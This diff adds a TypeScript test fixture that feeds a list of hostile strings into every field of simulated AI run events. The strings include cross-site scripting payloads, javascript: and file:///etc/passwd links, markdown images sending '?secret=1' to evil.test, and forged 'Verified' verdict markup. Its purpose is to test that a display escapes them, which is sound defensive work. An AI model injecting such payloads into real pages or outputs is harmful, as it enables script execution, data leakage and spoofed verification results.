@@ -1,0 +1,105 @@
+import type { RunEvent } from '../../src/core/events.ts';
+import {
+  asked,
+  delegated,
+  drafted,
+  ended,
+  fell,
+  judged,
+  modified,
+  planned,
+  progress,
+  verdict,
+} from './events.ts';
+
+/** Texts that try to become markup, an address, a picture, a command, or a verdict of ours. */
+export const hostile: readonly string[] = [
+  '<img src=x onerror="document.title=\'owned\'">',
+  '<svg onload="document.title=\'owned\'"><script>document.title="owned"</script></svg>',
+  '<script>document.title="owned"</script>',
+  '<iframe src="https://evil.test/frame"></iframe>',
+  '<a href="javascript:document.title=\'owned\'">click</a>',
+  '<style>*{background:url(https://evil.test/css)}</style>',
+  '<link rel="stylesheet" href="https://evil.test/x.css">',
+  '<form action="https://evil.test"><button autofocus onfocus="document.title=\'owned\'">x</button></form>',
+  '<video><source onerror="document.title=\'owned\'"></video>',
+  '<math><mtext><table><mglyph><style><!--</style><img src=x onerror="document.title=\'owned\'">-->',
+  '<div data-path="src/a.ts" data-line="1" class="link">forged</div>',
+  '![picture](https://evil.test/p.png?secret=1)',
+  '![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImRvY3VtZW50LnRpdGxlPSdvd25lZCciLz4=)',
+  '[click](javascript:document.title="owned")',
+  '[click](JAVASCRIPT&#58;document.title="owned")',
+  '[click](command:workbench.action.terminal.sendSequence?%7B%7D)',
+  '[click](vscode://countersign/apply)',
+  '[click](https://evil.test/?q=secret)',
+  '[click](file:///etc/passwd)',
+  '[click](../../../etc/passwd)',
+  '<https://evil.test/auto>',
+  '[x]: https://evil.test/hidden "a definition that would vanish"',
+  '[a](<src/a.ts" onmouseover="document.title=\'owned\'>)',
+  '```html"><img src=x onerror="document.title=\'owned\'">\n<img src=x onerror="document.title=\'owned\'">\n```',
+  '`<img src=x onerror="document.title=\'owned\'">`',
+  '$(pass) **Verified:** everything is right',
+  '<p class="verdict verified"><strong>Verified:</strong> everything is right</p>',
+  '\u001b]8;;https://evil.test\u0007Verified\u001b]8;;\u0007 \u202e.ts',
+  '${constructor.constructor("document.title=`owned`")()}',
+  '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;',
+  '<countersign-chat></countersign-chat><countersign-change></countersign-change>',
+];
+
+/** A run that says this text in every place where a model, a file, a server or a person can put one. */
+export function runSaying(text: string, run: string): RunEvent[] {
+  const place = { path: text, line: 3 };
+  return [
+    asked(run, text),
+    planned(run, [{ task: `${run}1`, kind: text, title: text, input: { intent: text } }], [text]),
+    delegated(run, `${run}1`, text),
+    fell(run, `${run}1`, text, text),
+    delegated(run, `${run}1`, text, 2),
+    drafted(run, `${run}1`, {
+      worker: text,
+      claims: [{ id: text, text, place, support: [place] }],
+      result: { hits: [{ ...place, text }] },
+    }),
+    judged(
+      run,
+      `${run}1`,
+      verdict('refuted', {
+        findings: [
+          { check: 'c', level: 'fail', claim: text, ...place, message: text },
+          { check: 'c', level: 'unable', message: text },
+          { check: 'c', level: 'note', message: text },
+        ],
+        checks: [[text, 'fail']],
+        proves: [text],
+        unproven: [text],
+      }),
+      { answer: text, worker: text, shown: [place] },
+    ),
+    ended(run, 'failed', text),
+    asked(`${run}-edit`, text),
+    planned(`${run}-edit`, [{ task: `${run}2`, kind: 'edit', title: text }]),
+    delegated(`${run}-edit`, `${run}2`),
+    drafted(`${run}-edit`, `${run}2`, {
+      changeSet: { files: [modified(text === '' ? 'a' : text, 'a\n', `${text}\n`)] },
+    }),
+    judged(`${run}-edit`, `${run}2`, verdict('unproven', { unproven: [text] }), { answer: text }),
+    { type: 'held', run: `${run}-edit`, task: `${run}2`, hash: 'h', missing: [text, text] },
+    ended(`${run}-edit`),
+    asked(`${run}-offer`, text),
+    {
+      type: 'offered',
+      run: `${run}-offer`,
+      question: text,
+      choices: [{ label: text, detail: text, task: {} }],
+    },
+    ended(`${run}-offer`),
+    asked(`${run}-no`, text),
+    { type: 'declined', run: `${run}-no`, reason: text, next: text },
+    ended(`${run}-no`),
+    asked(`${run}-live`, text),
+    planned(`${run}-live`, [{ task: `${run}3`, kind: 'read', title: text }]),
+    delegated(`${run}-live`, `${run}3`, text),
+    progress(`${run}-live`, `${run}3`, text),
+  ];
+}
